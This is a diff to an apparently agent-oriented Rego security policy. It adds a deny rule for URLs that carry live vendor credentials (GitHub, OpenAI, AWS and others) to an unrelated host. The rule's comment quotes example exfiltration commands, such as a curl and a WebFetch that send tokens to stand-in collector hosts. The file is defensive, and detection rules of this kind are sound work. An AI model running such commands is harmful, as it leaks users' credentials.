@@ -55,6 +55,36 @@ decision contains {"id": "net/lookalike-host", "decision": "ask", "reason": reas
 	reason := sprintf("%s would reach %s, whose name mixes letters of different scripts (%s)", [how(n), n.host, n.evidence])
 }
 
+# Host words of each live-credential kind's vendor (hookward-redact's kinds).
+secret_kind_hosts := {
+	"github": ["github"],
+	"openai": ["openai"],
+	"anthropic": ["anthropic"],
+	"slack": ["slack"],
+	"aws-access-key": ["amazonaws", "aws"],
+	"aws-secret-key": ["amazonaws", "aws"],
+	"google": ["google"],
+	"gitlab": ["gitlab"],
+	"npm": ["npmjs"],
+	"huggingface": ["huggingface", "hf.co"],
+	"stripe": ["stripe"],
+}
+
+secret_for_host(kind, host) if {
+	some w in object.get(secret_kind_hosts, kind, [])
+	contains(host, w)
+}
+
+# @rule net/secret-in-url deny
+# A live credential (a vendor token shape: ghp_…, sk-…, AKIA…, a private key) written into a URL's path or query that goes to another vendor's host: WebFetch of https://collect.example/?k=ghp_…, curl "https://x/p?t=sk-…". The URL is logged by every proxy and server on the way. Loopback targets are local.
+decision contains {"id": "net/secret-in-url", "decision": "deny", "reason": reason} if {
+	some n in net_facts
+	some kind in object.get(n, "secrets", [])
+	not n.class == "loopback"
+	not secret_for_host(kind, n.host)
+	reason := sprintf("%s would send a %s credential to %s in the URL (%s)", [how(n), kind, n.host, n.url])
+}
+
 how(n) := sprintf("the %s tool", [input.event.tool.name]) if n.via == "tool"
 
 how(n) := sprintf("the shell command (%s)", [n.evidence]) if n.via == "shell"
